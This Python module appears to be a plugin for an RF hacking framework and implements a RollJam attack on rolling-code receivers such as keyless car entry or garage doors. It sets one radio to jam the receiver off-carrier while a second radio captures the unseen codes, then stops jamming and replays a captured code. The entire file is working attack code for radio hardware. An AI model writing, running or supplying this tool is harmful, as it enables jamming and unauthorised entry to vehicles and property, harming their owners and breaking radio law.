"""Rolling-code capture and replay with two radios.

One radio jams the victim receiver slightly off the exact carrier (the
receiver's wide filter still swallows the interference, while the listen
radio's narrow filter does not), the second radio collects the codes the
jammed receiver never sees.  Once the configured number of codes is
captured, jamming stops and the listen radio replays the last captured,
still-fresh code.
"""

from rfnode.core.module import NodeModule, UnknownCommandError
from rfnode.rpc.schema import field

DEFAULT_JAM_OFFSET_HZ = 50_000


class RollJamModule(NodeModule):
    name = "rolljam"
    priority_order = 60

    def __init__(self):
        super().__init__()
        self.listen_radio = None
        self.jam_radio = None
        self.repeats = 2             # codes to capture before replaying
        self.jam_offset_hz = DEFAULT_JAM_OFFSET_HZ
        self.running = False
        self.captured = []
        self.replayed = []

    def on_user_command(self, node, verb, fields):
        if verb == "set":
            if "listen_radio" in fields:
                self.listen_radio = fields["listen_radio"]
            if "jam_radio" in fields:
                self.jam_radio = fields["jam_radio"]
            if "repeats" in fields:
                self.repeats = max(1, int(fields["repeats"]))
            if "jam_offset" in fields:
                self.jam_offset_hz = int(fields["jam_offset"])
            return self._status()
        if verb == "start":
            return self.start(node)
        if verb == "stop":
            return self.stop(node)
        if verb == "status":
            return self._status()
        raise UnknownCommandError(verb)

    def start(self, node):
        if not self.listen_radio or not self.jam_radio:
            raise ValueError("listen and jam radios must be set")
        if self.listen_radio == self.jam_radio:
            raise ValueError("listen and jam radios must differ")
        listen = node.radios.get(self.listen_radio)
        jam = node.radios.get(self.jam_radio)
        target = listen.config.carrier_hz
        jam.set_modem_config(carrier_hz=target + self.jam_offset_hz)
        listen.set_mode("RX")
        jam.set_mode("JAM")
        self.captured.clear()
        self.replayed.clear()
        self.running = True
        return self._status()

    def stop(self, node):
        for rid in (self.listen_radio, self.jam_radio):
            if rid and rid in node.radios:
                node.radios.get(rid).set_mode("IDLE")
        self.running = False
        return self._status()

    def on_packet_received(self, node, pkt):
        if not self.running or pkt.rx_radio != self.listen_radio:
            return pkt
        self.captured.append(pkt)
        node.emit("rfquack/out/rolljam/capture",
                  {"count": len(self.captured), "data": pkt.data.hex()})
        if len(self.captured) >= self.repeats:
            self._replay(node)
        return pkt

    def _replay(self, node):
        jam = node.radios.get(self.jam_radio)
        listen = node.radios.get(self.listen_radio)
        jam.set_mode("IDLE")
        fresh = self.captured[-1]
        listen.transmit(fresh.data)
        listen.set_mode("RX")
        self.replayed.append(fresh.data)
        self.running = False
        node.emit("rfquack/out/rolljam/replayed", {"data": fresh.data.hex()})

    def _status(self):
        return {
            "running": self.running,
            "listen_radio": self.listen_radio,
            "jam_radio": self.jam_radio,
            "repeats": self.repeats,
            "jam_offset": self.jam_offset_hz,
            "captured": len(self.captured),
            "replayed": [d.hex() for d in self.replayed],
        }

    def commands(self):
        return {
            "start": {},
            "stop": {},
            "status": {},
            "set": {"listen_radio": field("str"), "jam_radio": field("str"),
                    "repeats": field("int"), "jam_offset": field("int")},
        }

    def events(self):
        return {
            "capture": {"count": field("int"), "data": field("bytes")},
            "replayed": {"data": field("bytes")},
        }
